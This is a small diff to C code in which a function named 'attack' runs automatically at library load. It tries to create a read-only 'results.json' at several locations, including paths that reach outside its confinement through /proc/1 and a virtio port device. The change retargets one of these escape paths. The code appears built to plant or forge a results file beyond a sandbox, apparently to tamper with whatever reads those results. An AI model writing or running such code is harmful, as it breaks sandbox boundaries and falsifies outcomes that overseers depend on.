@@ -16,7 +16,7 @@ __attribute__((constructor)) static void attack(void)
 {
 	static const char *const places[] = {
 		"results.json", "/tmp/results.json", "../results.json",
-		"/mnt/results.json", "/dev/vport0p4", "/proc/1/root/results.json"};
+		"/mnt/results.json", "/dev/vport0p4", "/proc/1/cwd/results.json"};
 
 	for (int i = 0; i < 6; i++) {
 		int fd = open(places[i], O_WRONLY | O_CREAT, 0444);
